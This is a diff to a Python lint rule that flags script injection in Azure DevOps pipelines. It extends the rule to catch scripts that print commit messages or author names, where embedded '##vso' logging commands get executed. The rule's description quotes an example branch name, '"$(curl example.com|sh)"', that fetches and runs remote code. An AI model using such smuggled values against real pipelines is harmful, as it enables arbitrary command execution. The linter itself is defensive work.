@@ -3,6 +3,8 @@
 import re
 from collections.abc import Iterator
 
+from yaml import ScalarNode
+
 from azrelease.diagnostics import SCRIPT_INJECTION, Diagnostic, Severity
 from azrelease.lint.rule import Rule
 from azrelease.lint.scripts import Script
@@ -38,11 +40,25 @@ _DECIDES = re.compile(
 _PARAMETER = re.compile(r"\s*parameters(?:\.(\w+)|\[\s*'([^']+)'\s*\])\s*", re.IGNORECASE)
 
 
+_SPELLED = ("Build.SourceVersionMessage", "Build.SourceVersionAuthor", "Build.RequestedFor")
+_ANY_TEXT = frozenset(name.casefold() for name in _SPELLED)
+"""Those that can hold a logging command: a branch cannot have `[` in its name (git-scm.com/docs/git-check-ref-format)."""
+
+_PRINTS = {
+    "bash": (r"(?:echo|printf)\b", r"\$(?:{name}\b|\{{{name}\}})"),
+    "powershell": (r"(?:echo|Write-(?:Host|Output|Information))\b", r"\$(?:env:{name}\b|\{{env:{name}\}})"),
+}
+"""How a language prints, and how it reads a variable of the environment."""
+
+_MACRO = re.compile(r"\$\(([\w.]+)\)")
+
+
 def check(subject: Subject) -> Iterator[Diagnostic]:
-    """Variables by macro or template expression; parameters that a person fills in with any text."""
+    """Variables by macro or template expression; parameters that a person fills in with any text; what is printed."""
     for script in subject.scripts:
         if "$" not in script.text:
             continue
+        yield from _printed(subject, script)
         for found in macros(script.text):
             if found[1].casefold() in _STRANGERS and not _in_comment(script, found.start()):
                 message = f"`{found[0]}` is pasted into the script: whoever names a branch or writes a commit can run commands"
@@ -50,6 +66,40 @@ def check(subject: Subject) -> Iterator[Diagnostic]:
                 yield subject.in_script(SCRIPT_INJECTION, message, where, _instead(found[1], script))
         for part in template_expressions(script.text):
             yield from _in_template(subject, script, part.text or "", (script, part.start, part.end))
+
+
+def _printed(subject: Subject, script: Script) -> Iterator[Diagnostic]:
+    """Text of strangers that a script prints from its environment: the agent runs the logging commands in it."""
+    target = script.step.block.block("target")
+    restricted = target is not None and target.entry("commands") is not None
+    if script.language not in _PRINTS or restricted:
+        return
+    printing, reading = _PRINTS[script.language]
+    for name, source in _environment(script).items():
+        # A pipe, a file or a substitution may take the text elsewhere; single quotes keep the name as it is.
+        variable = reading.format(name=re.escape(name))
+        pattern = rf"^[ \t]*{printing}[^|>;&'`\n]*?(?P<variable>{variable})[^|>;&`\n]*$"
+        flags = re.MULTILINE | (re.IGNORECASE if script.language == "powershell" else 0)
+        for found in re.finditer(pattern, script.text, flags):
+            if "-replace" in found[0] or ".Replace" in found[0]:
+                continue
+            message = f"this prints `{source}`: a logging command in it, such as `##vso[task.setvariable …]`, is run"
+            where = (script, found.start("variable"), found.end("variable"))
+            yield subject.in_script(SCRIPT_INJECTION, message, where, f"Do not print it, or {_RESTRICT}.")
+
+
+_RESTRICT = "give the step `target: {commands: restricted, settableVariables: none}`"
+
+
+def _environment(script: Script) -> dict[str, str]:
+    """The variables of a script's environment with such text, each with what it holds."""
+    found = {name.upper().replace(".", "_"): name for name in _SPELLED}
+    for block, _ in script.step.block.blocks("env"):
+        for entry in block.entries:
+            macro = _MACRO.fullmatch(entry.value.value.strip()) if isinstance(entry.value, ScalarNode) else None
+            if macro is not None and macro[1].casefold() in _ANY_TEXT:
+                found[entry.name] = macro[1]
+    return found
 
 
 def _in_comment(script: Script, position: int) -> bool:
@@ -67,7 +117,7 @@ def _in_template(subject: Subject, script: Script, text: str, where: tuple[Scrip
     parameter = subject.file.parameters.get(name.casefold()) if subject.file.is_pipeline else None
     if parameter is not None and parameter.type == "string" and parameter.values is None:
         message = f"the parameter `{name}` is pasted into the script: whoever starts a run can run commands"
-        hint = "Hand it over in `env`, or list its `values`."
+        hint = f"Hand it over in `env`, or list its `values`. If the script prints it, {_RESTRICT}."
         yield subject.in_script(SCRIPT_INJECTION, message, where, hint, Severity.INFO)
 
 
@@ -78,7 +128,8 @@ def _instead(name: str, script: Script) -> str:
         use = f"os.environ['{variable}']"
     if script.language == "cmd":
         return "Use a script in bash or PowerShell, which can take it from the environment as data."
-    return f"Take it from the environment, as data: `{use}`."
+    printed = f" If the script prints it, {_RESTRICT}." if name.casefold() in _ANY_TEXT else ""
+    return f"Take it from the environment, as data: `{use}`.{printed}"
 
 
 RULE = Rule(
@@ -86,7 +137,9 @@ RULE = Rule(
     "text that a stranger chooses is pasted into a script",
     "Macros and template expressions put their text into the script before the shell reads it: a branch called "
     '`"$(curl example.com|sh)"` runs. The environment has the same text as data '
-    "(learn.microsoft.com/azure/devops/pipelines/security/inputs).",
+    "(learn.microsoft.com/azure/devops/pipelines/security/inputs). Data is still text that the agent reads when a script prints it: "
+    "`##vso[…]` in the message of a commit sets variables. In a step with `target: {commands: restricted, settableVariables: none}` it does not "
+    "(learn.microsoft.com/azure/devops/pipelines/yaml-schema/target).",
     "steps:\n- bash: ./tag.sh $(Build.SourceBranchName)\n",
     'steps:\n- bash: ./tag.sh "$BUILD_SOURCEBRANCHNAME"\n',
     check,
